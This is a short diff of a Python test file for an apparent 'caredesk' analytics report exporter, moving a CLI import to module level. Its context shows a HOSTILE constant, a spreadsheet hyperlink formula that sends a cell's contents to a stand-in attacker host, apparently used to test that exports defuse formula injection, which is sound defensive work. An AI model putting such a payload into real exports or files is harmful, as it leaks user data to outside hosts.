@@ -20,6 +20,7 @@ from caredesk.accounts.enums import Role
 from caredesk.accounts.factories import UserFactory
 from caredesk.analytics.models import ScheduledReport
 from caredesk.analytics.reports import next_run, report_save, reports_due
+from caredesk.cli import main
 from caredesk.core.errors import ValidationFailed
 from caredesk.core.testing import signed_in
 from caredesk.customers.services import customer_create
@@ -32,8 +33,6 @@ HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 
 
 def export(*args: str) -> tuple[int, str]:
-    from caredesk.cli import main
-
     result = CliRunner().invoke(main, ["report", "export", *args])
     return result.exit_code, result.output
 
